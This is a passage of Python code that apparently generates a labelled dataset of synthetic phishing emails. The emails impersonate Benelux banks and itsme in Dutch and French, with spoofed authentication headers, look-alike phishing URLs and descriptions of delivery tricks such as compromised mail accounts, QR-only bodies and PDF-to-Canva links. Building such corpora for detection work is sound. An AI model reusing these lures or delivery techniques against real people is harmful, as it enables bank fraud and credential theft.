        "<p>Geachte klant,</p><p>Vanaf <b>1 mei 2025</b> stopt de Rabo Scanner. Inloggen en betalingen bevestigen kan "
        "daarna alleen nog met de Rabo App.</p><p>Heeft u uw Rabo App nog niet gekoppeld? Rond dan vandaag de overstap "
        "af, dit duurt ongeveer 3 minuten.</p>"
        f"{button(track, 'Overstap afronden', '#000099')}"
        "<p style=\"font-size:13px;color:#666;\">Let op: niet afgeronde overstappen worden om veiligheidsredenen "
        "tijdelijk beperkt.</p><p>Met vriendelijke groet,<br>Rabobank</p>",
        header='<span style="font-family:Arial;font-size:24px;font-weight:bold;color:#000099;">Rabobank</span>',
        footer="Rabobank U.A. &middot; Croeselaan 18 &middot; 3521 CB Utrecht") +
        f'<img src="https://u{digits(seed, 8)}.ct.sendgrid.net/wf/open?upn=u001.{urlsafe(seed + "op", 70)}" '
        f'alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;">', "Rabobank")
    raw = message(mailbox(
        seed=seed, when=when, provider="ziggo", rcpt=rcpt, hop=hop,
        hops=[rcv(f"{dom} (unknown)", f"geopod-ismtpd-{digits(seed + 'gp', 1)} (SG)", when - timedelta(seconds=1), "HTTP",
                  f"{urlsafe(seed + 'sgid', 22)}", stamp=rfc_utc(when - timedelta(seconds=1)))],
        sig=headers(dkim(dom, "s1", seed, signed="from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to"),
                    dkim("sendgrid.info", "smtpapi", seed + "sg", signed="from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to")),
        core=["Content-Transfer-Encoding: 7bit" if False else None, f"From: {addr('Rabobank', 'noreply@' + dom)}",
              f"Subject: {enc('Belangrijk: de Rabo Scanner stopt - rond uw overstap af')}", f"To: {rcpt}",
              f"Date: {rfc_utc(when - timedelta(seconds=1))}", f"Message-ID: {mid(seed, dom, 'sendgrid')}",
              f"X-Feedback-ID: {digits(seed + 'fb', 8)}:SG", f"X-SG-EID: u001.{urlsafe(seed + 'eid', 64)}",
              f"X-SG-ID: u001.{urlsafe(seed + 'sgi', 56)}", "X-Entity-ID: u001." + urlsafe(seed + "ent", 22)]),
        alt(seed, plain, html))
    add("phishing", "phish", "rabo-scanner-sendgrid", "Rabobank 'Rabo Scanner stopt' lure sent through a compromised "
        "SendGrid account of a Dutch installer (passes DKIM/DMARC for that firm), click-tracking link leading to a "
        "fake Rabo App coupling page.", raw)


@msg
def p_abnamro_qr_image():
    seed, when = "abn-qr", T(2025, 9, 23, 10, 14, 2)
    rcpt, dom = "sanne.bakker.91@gmail.com", "klantportaal-meldingen.com"
    qr_url = f"https://abnamro.nl-identiteit.top/verify/{alnum(seed + 'q', 16)}"
    png = files.qr_png(qr_url)
    hop = Hop(ip="45.144.31.77", helo="mta2.klantportaal-meldingen.com", mailfrom=f"info@{dom}", dkim_res="pass",
              dkim_d=dom, dkim_s="mail", dmarc="pass", hfrom=dom, policy="none")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n'
            '<body style="font-family:Arial,sans-serif;">\n<div style="max-width:560px;margin:0 auto;text-align:center;">\n'
            '<p style="font-size:20px;color:#00857a;font-weight:bold;">ABN&#8203;AMRO</p>\n'
            '<p style="font-size:15px;">Wettelijke identiteitscontrole (Wwft)</p>\n'
            '<img src="cid:qr-' + hx(seed, 8) + '" width="220" height="220" alt="">\n'
            '<p style="font-size:13px;color:#555;">Scan de code met de camera van uw telefoon.<br>Referentie: '
            f'NL-{digits(seed + "r", 6)}</p>\n</div>\n</body></html>\n')
    body = Multi("related", boundary(seed + "rel"), [
        text(html, "html"),
        Leaf("image/png", png, "base64", f'; name="image001.png"', 'inline; filename="image001.png"',
             [f"Content-ID: <qr-{hx(seed, 8)}>"])])
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop,
        sig=dkim(dom, "mail", seed, t=when),
        core=[f"From: {addr('ABN AMRO Bank', 'info@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Uw identificatie is verlopen – controle vereist')}", f"Date: {rfc(when)}",
              f"Message-ID: {mid(seed, dom, 'uuid')}"]),
        body)
    add("phishing", "phish", "abnamro-qr-only", "ABN AMRO 'identiteitscontrole' mail that is only an inline QR-code image "
        "(no clickable link, almost no text) pointing to a subdomain-trick phishing host; sent from a fresh look-alike "
        "domain that passes its own checks.", raw)


@msg
def p_sns_shortlink_compromised():
    seed, when = "sns-blokkade", T(2024, 11, 19, 21, 33, 51)
    rcpt = "jvermeulen@outlook.com"
    dom = "papelariamoreira.com.br"
    short = "https://t.ly/Sn" + alnum(seed, 4)
    hop = Hop(ip="177.54.146.23", helo="smtp.papelariamoreira.com.br", mailfrom=f"contato@{dom}", dmarc="none",
              hfrom=dom, policy="none")
    plain = ("SNS\n\nGeachte rekeninghouder,\n\nWij hebben ongebruikelijke activiteit vastgesteld op uw rekening.\n"
             "Uit voorzorg zijn uitgaande betalingen tijdelijk geblokkeerd.\n\n"
             f"Deblokkeer uw rekening via: {short}\n\nHeeft u binnen 24 uur niet gereageerd, dan wordt uw pas definitief "
             "ingetrokken.\n\nSNS Klantenservice\n")
    html = ("<div style=\"font-family:Verdana,sans-serif;font-size:14px;\"><p><b style=\"color:#5b2a86;font-size:18px;\">"
            "SNS</b></p><p>Geachte rekeninghouder,</p><p>Wij hebben ongebruikelijke activiteit vastgesteld op uw rekening. "
            "Uit voorzorg zijn uitgaande betalingen <b>tijdelijk geblokkeerd</b>.</p>"
            f"<p><a href=\"{short}\" style=\"background:#5b2a86;color:#fff;padding:10px 18px;text-decoration:none;\">"
            "Rekening deblokkeren</a></p><p>Heeft u binnen 24 uur niet gereageerd, dan wordt uw pas definitief "
            "ingetrokken.</p><p>SNS Klantenservice</p></div>")
    raw = message(mailbox(
        seed=seed, when=when, provider="outlook", rcpt=rcpt, hop=hop,
        hops=[rcv(f"[{'41.216.188.40'}] (unknown [41.216.188.40])", "smtp.papelariamoreira.com.br (Postfix)",
                  when - timedelta(seconds=2), "ESMTPSA", f"{HX(seed + 'pf', 11)}", for_=rcpt)],
        core=[f"From: {addr('SNS Bank', 'contato@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Uw rekening is tijdelijk geblokkeerd')}", f"Date: {rfc_tz(when - timedelta(seconds=3), -3)}",
              f"Message-ID: {mid(seed, dom)}", "X-Mailer: Microsoft Outlook 16.0"]),
        alt(seed, plain, html))
    add("phishing", "phish", "sns-shortlink", "SNS Bank 'rekening geblokkeerd' lure sent from a compromised Brazilian "
        "shop mailbox (SPF pass, no DKIM) with a t.ly short link to the phishing page.", raw)


@msg
def p_kbc_workers():
    seed, when = "kbc-mobile", T(2025, 6, 17, 8, 2, 11)
    rcpt, dom = "an.peeters@telenet.be", "kbcmobile-be.com"
    url = f"https://kbc-toestel-registratie.floral-sun-4b2e.workers.dev/?t={alnum(seed + 'u', 12)}"
    hop = Hop(ip="194.87.216.45", helo="mail.kbcmobile-be.com", mailfrom=f"melding@{dom}", dkim_res="pass", dkim_d=dom,
              dkim_s="k1", dmarc="pass", hfrom=dom, policy="quarantine")
    plain = ("KBC Mobile\n\nBeste klant,\n\nVanaf 1 juli 2025 voeren wij een verplichte veiligheidsupdate door voor KBC Mobile.\n"
             "Toestellen die niet opnieuw geregistreerd zijn, kunnen daarna geen overschrijvingen meer bevestigen.\n\n"
             f"Registreer uw toestel opnieuw: {url}\n\nU heeft uw kaartlezer of itsme nodig.\n\nMet vriendelijke groeten,\n"
             "Uw KBC-team\n")
    html = html_doc(card(
        "<p>Beste klant,</p><p>Vanaf <b>1 juli 2025</b> voeren wij een verplichte veiligheidsupdate door voor KBC Mobile. "
        "Toestellen die niet opnieuw geregistreerd zijn, kunnen daarna geen overschrijvingen meer bevestigen.</p>"
        f"{button(url, 'Toestel opnieuw registreren', '#00aeef')}"
        "<p>U heeft uw kaartlezer of itsme&reg; nodig.</p><p>Met vriendelijke groeten,<br>Uw KBC-team</p>",
        header='<span style="font-family:Arial;font-size:24px;font-weight:bold;color:#003665;">KBC</span>',
        footer="KBC Bank NV &ndash; Havenlaan 2, 1080 Brussel &ndash; BTW BE 0462.920.226 &ndash; RPR Brussel"), "KBC")
    raw = message(mailbox(
        seed=seed, when=when, provider="telenet", rcpt=rcpt, hop=hop,
        hops=[rcv("[127.0.0.1] (localhost [127.0.0.1])", "mail.kbcmobile-be.com (Postfix)", when - timedelta(seconds=1),
                  "ESMTP", HX(seed + 'x', 10))],
        sig=dkim(dom, "k1", seed),
        core=[f"Message-ID: {mid(seed, dom, 'phpmailer')}", f"Date: {rfc(when)}", f"Subject: {enc('KBC Mobile: verplichte heractivatie van uw toestel')}",
              f"From: {addr('KBC Bank', 'melding@' + dom)}", f"To: {rcpt}", "X-Mailer: PHPMailer 6.8.1"]),
        alt(seed, plain, html))
    add("phishing", "phish", "kbc-mobile-workersdev", "KBC Mobile 'heractivatie toestel' lure (Flemish) from a "
        "look-alike .com domain with its own DKIM, linking to a Cloudflare workers.dev phishing page.", raw)


@msg
def p_belfius_vercel():
    seed, when = "belfius-itsme", T(2025, 10, 2, 12, 47, 9)
    rcpt, dom = "c.dubois@skynet.be", "belfius-securite.com"
    url = f"https://belfius-reactivation-{alnum(seed + 'v', 5).lower()}.vercel.app/fr/connexion"
    hop = Hop(ip="185.225.74.12", helo="srv1.belfius-securite.com", mailfrom=f"noreply@{dom}", dkim_res="pass",
              dkim_d=dom, dkim_s="s2025", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Belfius\n\nChère cliente, cher client,\n\nDans le cadre de la directive européenne DSP2, la liaison entre "
             "votre application itsme et Belfius Mobile doit être renouvelée avant le 10/10/2025.\n\n"
             f"Renouveler la liaison : {url}\n\nSans action de votre part, l'accès à Belfius Direct Net sera suspendu.\n\n"
             "Cordialement,\nBelfius Banque SA\n")
    html = html_doc(card(
        "<p>Ch&egrave;re cliente, cher client,</p><p>Dans le cadre de la directive europ&eacute;enne DSP2, la liaison entre "
        "votre application <b>itsme&reg;</b> et Belfius Mobile doit &ecirc;tre renouvel&eacute;e avant le <b>10/10/2025</b>.</p>"
        f"{button(url, 'Renouveler la liaison', '#c30045')}"
        "<p>Sans action de votre part, l&#39;acc&egrave;s &agrave; Belfius Direct Net sera suspendu.</p>"
        "<p>Cordialement,<br>Belfius Banque SA</p>",
        header='<span style="font-family:Arial;font-size:24px;font-weight:bold;color:#c30045;">Belfius</span>',
        footer="Belfius Banque SA, Place Charles Rogier 11, 1210 Bruxelles &ndash; RPM Bruxelles TVA BE 0403.201.185"),
        "Belfius", "fr")
    raw = message(mailbox(
        seed=seed, when=when, provider="proximus", rcpt=rcpt, hop=hop,
        sig=dkim(dom, "s2025", seed),
        core=[f"From: {addr('Belfius', 'noreply@' + dom)}", f"To: {addr('', rcpt)}",
              f"Subject: {enc('Action requise : renouvellement de votre liaison itsme®')}", f"Date: {rfc(when)}",
              f"Message-ID: {mid(seed, dom, 'uuid')}", "X-Priority: 1"]),
        alt(seed, plain, html))
    add("phishing", "phish", "belfius-itsme-vercel", "Belfius 'renouvellement liaison itsme' lure in French from a "
        "look-alike domain (passes its own SPF/DKIM), linking to a vercel.app credential page.", raw)


# ---------------------------------------------------------------------------
# sending software: Microsoft 365 / Outlook.com and Gmail as senders
# ---------------------------------------------------------------------------

def m365_out(seed: str, when: datetime, dom: str, sender: str, region: str = "EUR", consumer: bool = False):
    """(hop template kwargs, sender-side Received lines, DKIM/ARC block) for mail leaving Exchange Online."""
    pr = f"{alnum(seed + 'mx', 2).upper()}{digits(seed + 'mx1', 1)}PR{digits(seed + 'mx2', 2)}MB{digits(seed + 'mx3', 4)}"
    if consumer:
        helo = f"EUR0{digits(seed + 'h', 1)}-{['VI1', 'DB5', 'AM7', 'HE1'][int(digits(seed + 'h2', 1)) % 4]}-obe.outbound.protection.outlook.com"
        ip = f"40.92.{int(digits(seed + 'ip', 2)) % 60 + 10}.{int(digits(seed + 'ip2', 3)) % 250 + 2}"
    else:
        rc = {"EUR": "EUR0", "ZAF": "ZAF0", "NAM": "NAM1", "APC": "APC0"}[region]
        helo = f"{rc}{digits(seed + 'h', 1)}-{['AM0', 'DB8', 'VI1', 'HE1', 'DB3', 'AM6'][int(digits(seed + 'h2', 1)) % 6]}-obe.outbound.protection.outlook.com"
        ip = f"40.107.{int(digits(seed + 'ip', 3)) % 200 + 8}.{int(digits(seed + 'ip2', 3)) % 250 + 2}"
    sub = {"EUR": "eurprd0" + digits(seed + "e", 1), "ZAF": "ZAFP275", "NAM": "namprd1" + digits(seed + "e", 1),
           "APC": "apcprd0" + digits(seed + "e", 1)}[region]
    hops = [f"Received: from {pr}.{sub}.prod.outlook.com\n\t([fe80::{hx(seed + 'f1', 4)}:{hx(seed + 'f2', 4)}:{hx(seed + 'f3', 4)}:"
            f"{hx(seed + 'f4', 4)}]) by {pr}.{sub}.prod.outlook.com\n\t([fe80::{hx(seed + 'f1', 4)}:{hx(seed + 'f2', 4)}:"
            f"{hx(seed + 'f3', 4)}:{hx(seed + 'f4', 4)}%{int(digits(seed + 'pct', 1)) + 2}]) with mapi id 15.20.{8100 + int(digits(seed + 'bd', 3)) % 800}."
            f"{int(digits(seed + 'bd2', 2)) % 40}; {rfc_utc(when)}"]
    sig_dom = dom
    sig = headers(
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n\tb={b64(seed + 'arc', 70)}\n\t {b64(seed + 'arc2', 70)}==",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n\ts=arcselector10001;\n\t"
        f"h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:"
        f"X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n\tbh={b64(seed + 'abh', 43)}=;\n\t"
        f"b={b64(seed + 'ab', 70)}\n\t {b64(seed + 'ab2', 70)}==",
        f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n\tsmtp.mailfrom={dom}; dmarc=pass action=none\n\t"
        f"header.from={dom}; dkim=pass header.d={dom}; arc=none",
        dkim(sig_dom, "selector1", seed + "m365",
             signed="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck") if not consumer else
        dkim("hotmail.com" if "hotmail" in dom else "outlook.com", "selector1", seed + "m365",
             signed="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
    )
    return dict(ip=ip, helo=helo, mailfrom=sender), hops, sig, pr, sub


def outlook_core(seed: str, when: datetime, from_: str, to: str, subject: str, pr: str, sub: str,
                 cc: str = "", attach: bool = False, lang: str = "nl-NL", extra: list[str] = (), reply_to: str = "",
                 in_reply_to: str = "", topic: str | None = None) -> list[str]:
    topic = subject if topic is None else topic
    lines = [f"From: {from_}", f"To: {to}"]
    if cc:
        lines.append(f"CC: {cc}")
    lines += [f"Subject: {enc(subject)}", f"Thread-Topic: {enc(topic, 'Thread-Topic')}",
              f"Thread-Index: AQHb{b64(seed + 'ti', 28)}==", f"Date: {rfc_utc(when)}",
              f"Message-ID:\n\t<{pr}{HX(seed + 'mid', 20)}@{pr}.{sub}.prod.outlook.com>"]
    if in_reply_to:
        lines += [f"References: {in_reply_to}", f"In-Reply-To: {in_reply_to}"]
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    lines += [f"Accept-Language: {lang}, en-US", f"Content-Language: {lang}",
              f"X-MS-Has-Attach: {'yes' if attach else ''}".rstrip(), "X-MS-Exchange-Organization-RecordReviewCfmType: 0"]
    lines += list(extra)
    return lines


def outlook_html(paragraphs_html: str) -> str:
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
            '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
            '<style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:Aptos;}\n'
            'p.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\tfont-size:12.0pt;\n\tfont-family:"Aptos",sans-serif;}\n'
            'a:link, span.MsoHyperlink\n\t{color:#467886;\n\ttext-decoration:underline;}\n'
            '@page WordSection1\n\t{size:612.0pt 792.0pt;\n\tmargin:72.0pt 72.0pt 72.0pt 72.0pt;}\n'
            'div.WordSection1\n\t{page:WordSection1;}\n--></style>\n</head>\n'
            '<body lang="NL" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
            f'<div class="WordSection1">\n{paragraphs_html}\n</div>\n</body>\n</html>\n')


def mso_p(textline: str) -> str:
    return f'<p class="MsoNormal">{textline if textline else "<o:p>&nbsp;</o:p>"}<o:p></o:p></p>'


def outlook_body(seed: str, plain: str, html_paras: str, attachments: list[Leaf] = ()) -> Multi:
    body = Multi("alternative", boundary(seed + "alt", "outlook"),
                 [text(plain), text(outlook_html(html_paras), "html")])
    if attachments:
        return Multi("mixed", boundary(seed + "mix", "outlook"), [body, *attachments])
    return body


def gmail_out(seed: str, when: datetime, sender: str, rcpt: str):
    """(hop kwargs, sender-side hops, DKIM block, extra header lines) for mail sent from a gmail.com account."""
    n = int(digits(seed + "gw", 2))
    host = f"mail-{['wr1', 'ej1', 'lf1', 'ed1', 'wm1', 'pj1'][n % 6]}-f{n + 10}.google.com"
    ip = f"209.85.{[221, 218, 167, 208, 128, 216][n % 6]}.{n + 10}"
    hops = [f"Received: by {host} with SMTP id {hx(seed + 'sm', 13)}.{digits(seed + 'sm2', 1)}\n\t"
            f"for <{rcpt}>; {rfc_pac(when)}"]
    sig = headers(
        dkim("gmail.com", "20230601", seed + "gm", t=when,
             signed="mime-version:from:date:message-id:subject:to:cc\n\t:content-type:from:to:cc:subject:date:message-id:reply-to"),
        f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n\td=1e100.net; s=20230601; t={int(utc(when).timestamp())};"
        f"\n\th=mime-version:from:date:message-id:subject:to:cc\n\t:content-type:from:to:cc:subject:date:message-id:reply-to;"
        f"\n\tbh={b64(seed + 'gbh', 43)}=;\n\tb={b64(seed + 'gb', 70)}\n\t {b64(seed + 'gb2', 70)}==",
        f"X-Gm-Message-State: AOJu0Y{b64(seed + 'gms', 60)}\n\t{b64(seed + 'gms2', 40)}",
        f"X-Gm-Gg: ASbGnc{b64(seed + 'ggg', 70)}",
        f"X-Google-Smtp-Source: AGHT+I{b64(seed + 'gss', 60)}",
        f"X-Received: by 2002:a05:6000:{hx(seed + 'xq', 3)}:b0:{hx(seed + 'xq1', 3)}:{hx(seed + 'xq2', 4)} with SMTP id\n\t"
        f"{hx(seed + 'xq3', 14)}.{digits(seed + 'xq4', 2)}.{when.year}.{when.month:02d}.{when.day:02d}.{pacific(when).hour:02d}."
        f"{when.minute:02d}.{when.second:02d}; {rfc_pac(when)}",
    )
    return dict(ip=ip, helo=host, rdns=host, mailfrom=sender, dkim_res="pass", dkim_d="gmail.com", dkim_s="20230601",
                dmarc="pass", hfrom="gmail.com", policy="none"), hops, sig


def gmail_core(seed: str, when: datetime, from_: str, to: str, subject: str, cc: str = "", reply_to: str = "",
               in_reply_to: str = "") -> list[str]:
    lines = ["MIME-Version: 1.0", f"From: {from_}", f"Date: {rfc(when)}"]
    if in_reply_to:
        lines += [f"References: {in_reply_to}", f"In-Reply-To: {in_reply_to}"]
    lines += [f"X-Gm-Features: AQ{alnum(seed + 'gf', 30)}_{alnum(seed + 'gf2', 30)}",
              f"Message-ID: {mid(seed, 'mail.gmail.com', 'gmail')}", f"Subject: {enc(subject)}", f"To: {to}"]
    if cc:
        lines.append(f"Cc: {cc}")
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    return lines


def gmail_body(seed: str, plain: str, html_inner: str | None = None, attachments: list[Leaf] = ()) -> Multi:
    if html_inner is None:
        paras = [p.replace("\n", "<br>") for p in plain.strip("\n").split("\n\n")]
        html_inner = "".join(f"<div>{p}</div><div><br></div>" for p in paras[:-1]) + f"<div>{paras[-1]}</div>"
    html = f'<div dir="ltr">{html_inner}</div>\n'
    body = Multi("alternative", boundary(seed + "ga", "gmail"),
                 [text(plain, encoding="quoted-printable", charset="UTF-8"),
                  text(html, "html", encoding="quoted-printable", charset="UTF-8")])
    if attachments:
        return Multi("mixed", boundary(seed + "gx", "gmail"), [body, *attachments])
    return body


@msg
def p_bnpfortis_pdf_canva():
    seed, when = "fortis-pdf", T(2025, 1, 28, 9, 12, 44)
    rcpt, dom = "lucie.lambert.bxl@gmail.com", "cabinet-roussel-avocats.fr"
    canva = f"https://www.canva.com/design/DAG{alnum(seed + 'c', 8)}/{alnum(seed + 'c2', 22)}/view?utm_content=DAG{alnum(seed + 'c', 8)}&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks"
    hop = Hop(ip="109.234.164.201", helo="carmin.o2switch.net", mailfrom=f"compta@{dom}", dkim_res="pass", dkim_d=dom,
              dkim_s="default", dmarc="pass", hfrom=dom, policy="none")
    pdf = files.pdf(["BNP PARIBAS FORTIS", "", "Avis important concernant votre acces Easy Banking", "",
                     "Chere cliente, cher client,", "",
                     "Suite a la mise a jour de nos conditions generales (directive DSP2), nous vous",
                     "demandons de confirmer vos donnees d'identification avant le 04/02/2025.",
                     "Sans confirmation, l'acces a Easy Banking App et Easy Banking Web sera limite.", "",
                     "Cliquez sur le bouton ci-dessous pour consulter le document et confirmer.", "",
                     f"Reference dossier : BE-{digits(seed + 'r', 8)}"],
                    link=(canva, (56, 560, 300, 600)), title="Avis Easy Banking")
    plain = ("Bonjour,\n\nVeuillez trouver ci-joint un avis important concernant votre accès Easy Banking.\n\n"
             "Cordialement,\nService Clientèle\nBNP Paribas Fortis\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head><body style="font-size: 10pt;'
            ' font-family: Verdana,Geneva,sans-serif"><p>Bonjour,</p><p>Veuillez trouver ci-joint un avis important concernant '
            'votre acc&egrave;s Easy Banking.</p><p>Cordialement,<br />Service Client&egrave;le<br />BNP Paribas Fortis</p>'
            '</body></html>')
    body = Multi("mixed", f"=_{hx(seed + 'rc', 32)}", [
        Multi("alternative", f"=_{hx(seed + 'rc2', 32)}", [text(plain), text(html, "html")]),
        attachment("application/pdf", "Avis_EasyBanking_BE.pdf", pdf)])
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop,
        hops=[rcv("[102.89.34.177] (port=50412 helo=webmail.cabinet-roussel-avocats.fr)", "carmin.o2switch.net",
                  when - timedelta(seconds=1), "esmtpa (Exim 4.98)", f"1tcq{alnum(seed + 'ex', 2)}-0000{alnum(seed + 'ex2', 2)}-{alnum(seed + 'ex3', 2)}",
                  for_=rcpt)],
        sig=dkim(dom, "default", seed, signed="Message-ID:Subject:To:From:Date:Content-Type:MIME-Version:Sender:Reply-To:Cc"),
        core=["MIME-Version: 1.0", f"Date: {rfc(when)}", f"From: {addr('BNP Paribas Fortis', 'compta@' + dom)}",
              f"To: {rcpt}", f"Subject: {enc('Avis important - Easy Banking (réf. BE-' + digits(seed + 'r', 8) + ')')}",
              f"Message-ID: <{hx(seed + 'rm', 32)}@{dom}>", "X-Sender: compta@" + dom,
              "User-Agent: Roundcube Webmail/1.6.9"]),
        body)
    add("phishing", "phish", "bnpfortis-pdf-canva", "BNP Paribas Fortis Easy Banking notice sent from a compromised French "
        "law-firm mailbox (passes SPF/DKIM/DMARC); the PDF attachment carries a button to a Canva design that fronts "
        "the credential page.", raw)


@msg
def p_argenta_m365_amp():
    seed, when = "argenta-amp", T(2025, 3, 6, 14, 21, 7)
    rcpt, dom = "pieter.claes77@gmail.com", "solartec-eng.co.za"
    sender = f"accounts@{dom}"
    url = f"https://www.google.com/amp/s/argenta-klantzone.web.app/%3Fk%3D{alnum(seed + 'k', 10)}"
    kw, hops, sig, pr, sub = m365_out(seed, when, dom, sender, "ZAF")
    hop = Hop(**kw, dkim_res="pass", dkim_d=dom, dkim_s="selector1", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Beste klant,\n\nOm te voldoen aan de nieuwe Europese regelgeving moeten alle Argenta-klanten hun gegevens\n"
             "bevestigen via itsme. Uw toegang tot de Argenta-app en Home Banking wordt op 10 maart 2025 beperkt\n"
             "als u dit niet doet.\n\nBevestig hier: " + url + "\n\nMet vriendelijke groeten,\nArgenta Klantendienst\n")
    paras = "\n".join(mso_p(x) for x in [
        "Beste klant,", "",
        "Om te voldoen aan de nieuwe Europese regelgeving moeten alle Argenta-klanten hun gegevens bevestigen via itsme. "
        "Uw toegang tot de Argenta-app en Home Banking wordt op <b>10 maart 2025</b> beperkt als u dit niet doet.", "",
        f'<a href="{url}"><b>Gegevens bevestigen</b></a>', "", "Met vriendelijke groeten,", "Argenta Klantendienst"])
    raw = message(mailbox(seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=Hop(**{**kw, 'mailfrom': sender}, dkim_res="pass", dkim_d=dom, dkim_s="selector1", dmarc="pass", hfrom=dom, policy="none"),
                          hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("Argenta Klantendienst", sender),
                                            "undisclosed-recipients:;", "Belangrijk: bevestig uw gegevens vóór 10 maart", pr, sub,
                                            extra=[f"x-ms-exchange-crosstenant-id: {guid(dom)}"])),
                  outlook_body(seed, plain, paras))
    add("phishing", "phish", "argenta-m365-amp", "Argenta 'bevestig uw gegevens via itsme' lure sent from a compromised "
        "South-African Microsoft 365 mailbox (SPF/DKIM/DMARC pass), link through Google's AMP redirector to a web.app page.", raw)


@msg
def p_spuerkeess_mailgun():
    seed, when = "bcee-luxtrust", T(2025, 3, 12, 10, 15, 3)
    rcpt, dom = "m.schmit@pt.lu", "bcee-lu.com"
    url = f"https://snet-bcee-lu.firebaseapp.com/fr/login?c={alnum(seed + 'u', 14)}"
    track = f"https://email.mg.{dom}/c/{urlsafe(seed + 'mgc', 120)}"
    mf = f"bounce+{hx(seed + 'bb', 6)}.{hx(seed + 'bb2', 4)}-m.schmit=pt.lu@mg.{dom}"
    hop = Hop(ip="159.135.228.14", helo="m228-14.mailgun.net", mailfrom=mf, dkim_res="pass", dkim_d=f"mg.{dom}",
              dkim_s="mx", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Spuerkeess\n\nChère cliente, cher client,\n\nVotre certificat LuxTrust lié à S-Net arrive à expiration le "
             "15/03/2025.\nAfin de garantir la continuité de vos services, veuillez le renouveler dès maintenant.\n\n"
             f"Renouveler mon certificat : {track}\n\nNous vous remercions de votre confiance.\n\n"
             "Banque et Caisse d'Epargne de l'Etat, Luxembourg\n")
    html = html_doc(card(
        "<p>Ch&egrave;re cliente, cher client,</p><p>Votre certificat <b>LuxTrust</b> li&eacute; &agrave; S-Net arrive &agrave; "
        "expiration le <b>15/03/2025</b>. Afin de garantir la continuit&eacute; de vos services, veuillez le renouveler "
        "d&egrave;s maintenant.</p>" + button(track, "Renouveler mon certificat", "#e30613") +
        "<p>Nous vous remercions de votre confiance.</p>",
        header='<span style="font-family:Arial;font-size:24px;font-weight:bold;color:#e30613;">Spuerkeess</span>',
        footer="Banque et Caisse d&#39;Epargne de l&#39;Etat, Luxembourg &ndash; 1, Place de Metz, L-2954 Luxembourg") +
        f'<img width="1" height="1" alt="" src="https://email.mg.{dom}/o/{urlsafe(seed + "mgo", 90)}">', "Spuerkeess", "fr")
    raw = message(mailbox(
        seed=seed, when=when, provider="postlu", rcpt=rcpt, hop=hop,
        hops=[f"Received: by {hx(seed + 'mgh', 40)}.mailgun.org with HTTP; {rfc_utc(when - timedelta(seconds=1))}"],
        sig=dkim(f"mg.{dom}", "mx", seed, signed="Content-Transfer-Encoding: Content-Type: MIME-Version: Subject: Subject: From: "
                 "From: To: To: Date: Message-Id: Reply-To: Sender".replace(": ", ":").replace(" ", ""), t=when),
        core=[f"Sender: info=bcee-lu.com@mg.{dom}", f"X-Mailgun-Sid: {urlsafe(seed + 'sid', 60)}",
              f"X-Mailgun-Sending-Ip: 159.135.228.14", f"X-Mailgun-Batch-Id: {hx(seed + 'batch', 24)}",
              f"Date: {rfc_utc(when - timedelta(seconds=1))}", f"From: {addr('Spuerkeess', 'info@' + dom)}",
              f"To: {rcpt}", f"Subject: {enc('Votre certificat LuxTrust expire le 15/03/2025')}",
              f"Message-Id: <{when.strftime('%Y%m%d%H%M%S')}.{hx(seed + 'mgid', 16)}@{dom}>"]),
        alt(seed, plain, html))
    add("phishing", "phish", "spuerkeess-luxtrust-mailgun", "Spuerkeess S-Net 'certificat LuxTrust expire' lure in French sent "
        "through Mailgun from a look-alike domain, tracked link to a firebaseapp.com login page.", raw)


@msg
def p_itsme_wordpress():
    seed, when = "itsme-wp", T(2024, 10, 8, 19, 3, 36)
    rcpt, dom = "jef.wouters@telenet.be", "fietsenvermeulen.be"
    url = f"https://itsme-verlenging-be.netlify.app/nl/?sid={alnum(seed + 's', 12)}"
    hop = Hop(ip="185.182.56.84", helo="s231.webhostingserver.nl", mailfrom=f"wordpress@{dom}", dkim_res="pass",
              dkim_d=dom, dkim_s="default", dmarc="none", hfrom=dom, policy="none")
    html = html_doc(card(
        "<h2 style=\"font-size:20px;color:#ff4612;margin:0 0 12px 0;\">Je itsme&reg;-identiteit moet worden bijgewerkt</h2>"
        "<p>Hallo,</p><p>Je identiteitskaart die aan je itsme&reg;-account gekoppeld is, is vervallen of wordt binnenkort "
        "vervangen. Werk je gegevens bij om je account actief te houden.</p>"
